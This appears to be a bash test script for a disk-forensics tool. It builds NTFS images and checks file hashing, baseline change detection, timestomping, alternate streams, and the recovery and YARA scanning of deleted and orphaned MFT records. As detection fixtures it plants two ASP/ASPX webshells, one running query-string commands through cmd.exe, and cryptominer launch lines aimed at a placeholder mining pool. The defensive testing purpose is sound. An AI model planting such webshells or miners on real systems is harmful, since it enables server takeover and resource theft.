#!/usr/bin/env bash
# NTFS through libtsk: an image made with mkntfs and filled through ntfs-3g
# (FUSE; the kernel here has no ntfs driver to mount it with), holding a
# resident file, non-resident ones, a compressed and a sparse file, an empty
# file, UTF-8 names (UTF-16 on disk) and named data streams (alternate data
# streams, on a file and on a directory).  Examined with no mount: the file
# list, sizes and SHA-256 must be exactly the known files', libtsk's own
# fiwalk must agree, the device hash must be sha256sum's; then known changes
# against a baseline are found exactly, NTFS's own files ($MFT, $Bitmap, ...)
# listed and hashed but not reported as changed.  Deleted files: those libtsk
# ties to a name are listed, hashed from their freed MFT record and scanned
# by YARA as live files are (a deleted webshell, a miner launcher); a record
# no name reaches (its directory's record reused) is an orphan, listed as
# /$OrphanFiles/OrphanFile-N, hashed and scanned by YARA.
source "$(dirname "$0")/lib.sh"
command -v mkntfs >/dev/null && command -v ntfs-3g >/dev/null || { echo "SKIP: ntfs-3g not installed"; exit 77; }

# ntfs_rw IMG DIR: mount through FUSE to make changes (unmounted by cleanup too)
ntfs_rw() {
  mkdir -p "$2"
  ntfs-3g -o compression "$1" "$2" || return 1
  MOUNTS+=("$2")
}
ntfs_done() { fusermount -u "$1" 2>/dev/null || umount "$1"; sync; }

t=$WORK/ntfs-tree
mkdir -p "$t"/{Windows/System32,inetpub/wwwroot,Users/u/Desktop,data/ünïcödé,comp}
printf '[fonts]\n' > "$t/Windows/win.ini"                                # resident in its MFT record
head -c 300000 /dev/urandom > "$t/Windows/System32/tool.exe"
printf '<%% Response.Write("hi") %%>\n' > "$t/inetpub/wwwroot/default.asp"
head -c 3000000 /dev/urandom > "$t/data/big.bin"
: > "$t/data/empty"
printf 'x\n' > "$t/data/ünïcödé/名前.txt"
printf 'notes\n' > "$t/Users/u/Desktop/notes.txt"
for i in $(seq 1 8000); do echo "compressible line $((i % 7))"; done > "$t/comp/log.txt"
truncate -s 2M "$t/sparse.bin"
printf 'middle' | dd of="$t/sparse.bin" bs=1 seek=1000000 conv=notrunc status=none

img=$WORK/ntfs.img
truncate -s 32M "$img"
mkntfs -F -f -q -L evidence "$img" >/dev/null 2>&1 || fail "mkntfs"
if ! ntfs_rw "$img" "$WORK/m"; then
  echo "SKIP: cannot mount NTFS through FUSE here (ntfs-3g needs /dev/fuse)"; exit 77
fi
# comp/ is marked compressed (FILE_ATTRIBUTE_COMPRESSED) before its file is written
mkdir "$WORK/m/comp"
$PY -c 'import os, sys; os.setxattr(sys.argv[1], "system.ntfs_attrib_be", (0x800).to_bytes(4, "big"))' "$WORK/m/comp"
cp -r "$t"/. "$WORK/m/"
cp --sparse=always "$t/sparse.bin" "$WORK/m/sparse.bin"
# named streams (ntfs-3g maps user.* extended attributes to them)
printf '[ZoneTransfer]\nZoneId=3\n' > "$WORK/zone"
printf 'kept beside a directory\n' > "$WORK/dirstream"
$PY - "$WORK/m" "$WORK/zone" "$WORK/dirstream" <<'PYEOF'
import os, sys
m = sys.argv[1]
os.setxattr(m + "/Windows/win.ini", "user.Zone.Identifier", open(sys.argv[2], "rb").read())
os.setxattr(m + "/data", "user.notes", open(sys.argv[3], "rb").read())
PYEOF
ntfs_done "$WORK/m"
check "ntfs: comp/log.txt stored compressed (libtsk's decompression is exercised)" \
  bash -c "istat '$img' \$(ifind -n /comp/log.txt '$img') | grep -q 'Non-Resident, Compressed'"
check "ntfs: sparse.bin stored sparse" \
  bash -c "istat '$img' \$(ifind -n /sparse.bin '$img') | grep -q 'Non-Resident, Sparse'"

"$SG" forensics examine --device "$img" --out "$WORK/out" >/dev/null || fail "ntfs examine exited $?"
R=$WORK/out/report.json M=$WORK/out/ntfs.img/manifest.jsonl
check "ntfs: walked by libtsk with no mount" test "$(jget "$R" 'r["evidence"][0]["filesystems"][0]["type"] + " " + r["evidence"][0]["filesystems"][0]["method"]')" == "ntfs libtsk-raw"
check "ntfs: device hash agrees with sha256sum" test "$(jget "$R" 'r["evidence"][0]["sha256"]')" == "$(sha256sum "$img" | cut -d' ' -f1)"
check "ntfs: YARA read every file it chose to its end, a directory's named stream too" \
  test "$(jget "$R" '(r["status"], r["evidence"][0]["yara"]["status"], r["evidence"][0]["yara"]["problems"])')" == "('complete', 'complete', [])"
# The known files: every one present with its size and SHA-256, nothing else
# live besides NTFS's own files (marked fs_meta), directories the same; the
# two named streams as "path:stream" files with their own hashes.
check "ntfs: file list, sizes and SHA-256 are exactly the known files'" $PY - "$M" "$t" "$WORK/zone" "$WORK/dirstream" <<'PYEOF'
import hashlib, json, os, sys
manifest, root = sys.argv[1], sys.argv[2]
def known(path):
    data = open(path, "rb").read()
    return ("file", len(data), hashlib.sha256(data).hexdigest())
want = {"/Windows/win.ini:Zone.Identifier": known(sys.argv[3]), "/data:notes": known(sys.argv[4])}
for d, dirs, files in os.walk(root):
    for n in dirs + files:
        p = os.path.join(d, n)
        rel = "/" + os.path.relpath(p, root)
        want[rel] = ("dir", None, None) if n in dirs else known(p)
got, meta = {}, set()
with open(manifest) as f:
    f.readline()
    for line in f:
        e = json.loads(line)
        if e["deleted"]:
            continue
        if e.get("fs_meta"):
            meta.add(e["path"])
            continue
        got[e["path"]] = (e["type"], e["size"] if e["type"] == "file" else None, e.get("sha256"))
bad = 0
for p in sorted(set(want) | set(got)):
    if want.get(p) != got.get(p):
        print("differs:", p, "known", want.get(p), "manifest", got.get(p)); bad += 1
for m in ("/$MFT", "/$MFTMirr", "/$LogFile", "/$Bitmap", "/$UpCase", "/$Extend"):
    if m not in meta:
        print("system file not listed as fs_meta:", m); bad += 1
if any(not p.startswith("/$") for p in meta):
    print("an ordinary file marked fs_meta:", sorted(meta)); bad += 1
print("known files: %d, manifest: %d, system files: %d, differences: %d" % (len(want), len(got), len(meta), bad))
sys.exit(1 if bad or not want else 0)
PYEOF
check "ntfs: system files are hashed too" grep -q '"path":"/\$MFT",.*"fs_meta":true,"sha256":"[0-9a-f]\{64\}"' "$M"
check "ntfs: file list and sizes agree with fiwalk" $PY "$HERE/fiwalk_check.py" "$img" "$M"

# Known changes, each through ntfs-3g, against a baseline of the clean image
"$SG" forensics baseline --device "$img" --out "$WORK/ntfs.base" >/dev/null || fail "ntfs baseline"
evil=$WORK/ntfs-evil.img
cp "$img" "$evil"
ntfs_rw "$evil" "$WORK/e" || fail "mount the evil copy"
printf '<%% eval request("c") %%>\n' > "$WORK/e/inetpub/wwwroot/shell.aspx"           # added
$PY -c 'import os, sys; os.setxattr(sys.argv[1], "user.payload", b"MZ hidden in a stream")' \
  "$WORK/e/inetpub/wwwroot/default.asp"                                              # added (a stream)
$PY -c 'import os, sys; os.setxattr(sys.argv[1], "user.notes", b"rewritten")' "$WORK/e/data"  # modified (a stream)
head -c 300000 /dev/urandom > "$WORK/e/Windows/System32/tool.exe"                     # modified
rm "$WORK/e/Users/u/Desktop/notes.txt"                                               # removed
mv "$WORK/e/data/big.bin" "$WORK/e/data/big2.bin"                                    # moved
touch -r "$WORK/e/Windows/win.ini" "$WORK/stamp"                                     # timestomped:
printf '[fonts]\n[evil]\n' > "$WORK/e/Windows/win.ini"                               #  content changed,
touch -r "$WORK/stamp" "$WORK/e/Windows/win.ini"                                     #  mtime put back
# extended attributes ($EA, set raw through ntfs-3g): metadata
$PY - "$WORK/e/data/ünïcödé/名前.txt" <<'PYEOF'
import os, struct, sys
def ea(name, val):
    body = struct.pack("<BBH", 0, len(name), len(val)) + name + b"\0" + val
    size = (4 + len(body) + 3) & ~3
    return (struct.pack("<I", size) + body).ljust(size, b"\0")
os.setxattr(sys.argv[1], "system.ntfs_ea",
            ea(b"$LXMOD", struct.pack("<I", 0o104755)) + ea(b"$KERNEL.PURGE.ESBCACHE", b"\x01\x02"))
PYEOF
ntfs_done "$WORK/e"
"$SG" forensics examine --device "$evil" --baseline "$WORK/ntfs.base" --out "$WORK/out-evil" >/dev/null \
  || fail "ntfs examine (baseline) exited $?"
expect_findings ntfs "$WORK/out-evil/report.json" 'added /inetpub/wwwroot/shell.aspx
added /inetpub/wwwroot/default.asp:payload
modified /data:notes
modified /Windows/System32/tool.exe
removed /Users/u/Desktop/notes.txt
moved /data/big2.bin
timestomped /Windows/win.ini
metadata /data/ünïcödé/名前.txt'
check "ntfs: the \$EA entries named in the finding" test \
  "$(jget "$WORK/out-evil/report.json" '[f["detail"] for f in r["evidence"][0]["findings"] if f["class"] == "metadata"][0]')" = \
  'xattrs +ea.$KERNEL.PURGE.ESBCACHE, +ea.$LXMOD'
check "ntfs: the \$EA values recorded" grep -qF '"xattrs":"ea.$KERNEL.PURGE.ESBCACHE=0102|ea.$LXMOD=ed890000"' \
  "$WORK/out-evil/ntfs-evil.img/manifest.jsonl"
check "ntfs: files without \$EA say so (\"\")" grep -q '"path":"/Windows/win.ini",.*"xattrs":""' "$WORK/out-evil/ntfs-evil.img/manifest.jsonl"
# deleted MFT records: a directory removed with what it held; libtsk lists
# the names but drops the records (their sequence number moved on)
cp "$img" "$WORK/ntfs-del.img"
ntfs_rw "$WORK/ntfs-del.img" "$WORK/d" || fail "mount the copy to delete from"
# an intruder's webshell (resident in its MFT record) and miner launcher
# (non-resident: its clusters), deleted with the directory they were in
printf '<%%@ Page Language="C#" %%>\n<%% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]); %%>\n' \
  > "$WORK/d/inetpub/wwwroot/cmd.aspx"
$PY - "$WORK/d/inetpub/wwwroot/update.ps1" <<'PYEOF'
import os, sys
open(sys.argv[1], "wb").write(os.urandom(20000) + b"\nStart-Process xmrig -ArgumentList '-o stratum+tcp://pool.minexmr.example:4444 -a rx/0'\n" + os.urandom(30000))
PYEOF
sha256sum "$WORK/d/inetpub/wwwroot/cmd.aspx" "$WORK/d/inetpub/wwwroot/update.ps1" | cut -d' ' -f1 > "$WORK/del.sha"
rm -r "$WORK/d/inetpub"
ntfs_done "$WORK/d"
"$SG" forensics examine --device "$WORK/ntfs-del.img" --out "$WORK/out-del" --no-device-hash >/dev/null \
  || fail "ntfs examine (deleted) exited $?"
check "ntfs: deleted records listed with type, size and times" $PY - "$WORK/out-del/report.json" "$t" <<'PYEOF'
import json, os, sys
fs = json.load(open(sys.argv[1]))["evidence"][0]["filesystems"][0]
got = {e["path"]: e for e in fs["deleted_entries"]}
want = {"/inetpub": ("dir", None), "/inetpub/wwwroot": ("dir", None),
        "/inetpub/wwwroot/default.asp": ("file", os.path.getsize(sys.argv[2] + "/inetpub/wwwroot/default.asp"))}
for p, (typ, size) in want.items():
    e = got.get(p)
    assert e, (p, sorted(got))
    assert e["type"] == typ, e
    assert size is None or e["size"] == size, e
    assert float(e["mtime"]) > 1e9 and float(e["btime"]) > 1e9, e
assert fs["deleted_mft_records"] >= 3, fs["deleted_mft_records"]
PYEOF
check "ntfs: fls lists the deleted file, istat its record (the same record)" \
  bash -c "fls -r -d '$WORK/ntfs-del.img' | grep -q 'inetpub/wwwroot/default.asp'"
check "ntfs: a deleted file whose record is still its own is hashed from it" grep -q \
  "\"path\":\"/inetpub/wwwroot/default.asp\".*\"deleted\":true,\"sha256\":\"$(sha256sum <"$t/inetpub/wwwroot/default.asp" | cut -d' ' -f1)\"" \
  "$WORK/out-del/ntfs-del.img/manifest.jsonl"
# YARA reads a deleted file from its freed record as it reads a live one:
# chosen by the same rules (no baseline: scripts), under the same limits
check "ntfs deleted files: YARA matched the webshell and the launcher, as deleted" $PY - \
  "$WORK/out-del/report.json" "$WORK/del.sha" <<'PYEOF'
import json, sys
y = json.load(open(sys.argv[1]))["evidence"][0]["yara"]
shas = open(sys.argv[2]).read().split()
want = {"/inetpub/wwwroot/cmd.aspx": (["webshells.aspx_webshell_cmd"], shas[0]),
        "/inetpub/wwwroot/update.ps1": (["miners.miner_stratum_launcher"], shas[1])}
# (the resident webshell's bytes are in the $MFT too, which YARA reads as well)
got = {m["path"]: m for m in y["matches"] if not m["path"].startswith("/$")}
assert sorted(got) == sorted(want), y["matches"]
for p, (rules, sha) in want.items():
    m = got[p]
    assert [x["namespace"] + "." + x["rule"] for x in m["rules"]] == rules, m
    assert m["deleted"] is True and m["orphan"] is False, m
    assert m["class"] == "deleted_in_image" and m["selected"] == "script", m
    assert m["sha256"] == sha and m["scanned_bytes"] == m["size"] and not m["truncated"], m
# default.asp too: three deleted scripts read to their end
assert y["deleted"] == 3 and y["orphans"] == 0 and y["status"] == "complete", y
PYEOF
check "ntfs deleted files: report.md says the match is of a deleted file" grep -Eq \
  '^\| ` /inetpub/wwwroot/cmd\.aspx ` \(deleted, inode [0-9]+\) \| deleted\\_in\\_image \| \*\*webshells\.aspx\\_webshell\\_cmd\*\* \|' \
  "$WORK/out-del/report.md"
# with a baseline: a deleted file the baseline did not have is a finding,
# scanned; one the baseline had live (default.asp, now removed) is not
"$SG" forensics examine --device "$WORK/ntfs-del.img" --baseline "$WORK/ntfs.base" \
  --out "$WORK/out-del-base" --no-device-hash > "$WORK/del-base.line" \
  || fail "ntfs examine (deleted, baseline) exited $?"
check "ntfs deleted files with a baseline: the new ones scanned, named deleted in the result line" $PY - \
  "$WORK/out-del-base/report.json" "$WORK/del-base.line" <<'PYEOF'
import json, sys
y = json.load(open(sys.argv[1]))["evidence"][0]["yara"]
sel = sorted((m["path"], m["selected"], m["class"]) for m in y["matches"] if not m["path"].startswith("/$"))
assert sel == [("/inetpub/wwwroot/cmd.aspx", "deleted_in_image", "deleted_in_image"),
               ("/inetpub/wwwroot/update.ps1", "deleted_in_image", "deleted_in_image")], sel
assert y["deleted"] == 2 and y["status"] == "complete", y
line = json.loads(open(sys.argv[2]).read())["evidence"][0]["yara"]
assert sorted((m["path"], m["class"]) for m in line["matches"] if not m["path"].startswith("/$")) == [
    ("/inetpub/wwwroot/cmd.aspx", "deleted_in_image"),
    ("/inetpub/wwwroot/update.ps1", "deleted_in_image")], line
PYEOF

# orphan MFT records: a tool deleted with its directory, whose record was
# then reused (no name reaches the tool's record any more: libtsk puts it
# under its virtual $OrphanFiles); listed, hashed and scanned by YARA
cp "$img" "$WORK/ntfs-orph.img"
ntfs_rw "$WORK/ntfs-orph.img" "$WORK/o" || fail "mount the copy to orphan a file in"
mkdir "$WORK/o/drop"
$PY - "$WORK/o/drop/kdevtmpfsi" "$WORK/orph.sha" <<'PYEOF'
import hashlib, os, sys
data = os.urandom(30000) + (b"\nexec ./kdevtmpfsi -o stratum+tcp://pool.minexmr.example:4444 -u "
       b"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
       b" -a rx/0\n") + os.urandom(20000)
open(sys.argv[1], "wb").write(data)
open(sys.argv[2], "w").write(hashlib.sha256(data).hexdigest())
PYEOF
rm -r "$WORK/o/drop"
ntfs_done "$WORK/o"
ntfs_rw "$WORK/ntfs-orph.img" "$WORK/o" || fail "mount it again"
mkdir "$WORK/o/reused"     # a fresh mount allocates from the lowest free record: drop's
ntfs_done "$WORK/o"
ino=$(fls -r -p "$WORK/ntfs-orph.img" | awk '/\$OrphanFiles\/kdevtmpfsi$/ { split($3, a, "-"); print a[1] }')
check "test image: libtsk has the tool only under \$OrphanFiles" test -n "$ino"
"$SG" forensics examine --device "$WORK/ntfs-orph.img" --out "$WORK/out-orph" --no-device-hash >/dev/null \
  || fail "ntfs examine (orphan) exited $?"
check "ntfs orphan record: listed, deleted, its content hashed" grep -q \
  "\"path\":\"/\$OrphanFiles/OrphanFile-$ino\",\"fs\":0,\"inode\":$ino,\"type\":\"file\".*\"deleted\":true,\"sha256\":\"$(cat "$WORK/orph.sha")\".*\"note\":\"orphan MFT record" \
  "$WORK/out-orph/ntfs-orph.img/manifest.jsonl"
check "ntfs orphan record: YARA matched it, with its record number and status" $PY - \
  "$WORK/out-orph/report.json" "/\$OrphanFiles/OrphanFile-$ino" "$ino" <<'PYEOF'
import json, sys
y = json.load(open(sys.argv[1]))["evidence"][0]["yara"]
m = [m for m in y["matches"] if m["path"] == sys.argv[2]]
assert len(m) == 1 and m[0]["inode"] == int(sys.argv[3]) and m[0]["class"] == "deleted_in_image", y["matches"]
assert [x["namespace"] + "." + x["rule"] for x in m[0]["rules"]] == ["miners.miner_stratum_launcher"], m
assert y["orphans"] == 1 and y["status"] == "complete", y
PYEOF
check "ntfs orphan record: report.md shows the match" grep -Fq \
  "| \` /\$OrphanFiles/OrphanFile-$ino \` (orphan inode $ino) | deleted\\_in\\_image | **miners.miner\\_stratum\\_launcher** |" \
  "$WORK/out-orph/report.md"
check "ntfs orphan record: the MFT's never-named reserved records are not files" bash -c \
  "! grep -q 'OrphanFile-1[6-9]\"\|OrphanFile-2[0-3]\"' '$WORK/out-orph/ntfs-orph.img/manifest.jsonl'"
check "ntfs: the changed image still agrees with fiwalk" $PY "$HERE/fiwalk_check.py" "$evil" "$WORK/out-evil/ntfs-evil.img/manifest.jsonl"
finish
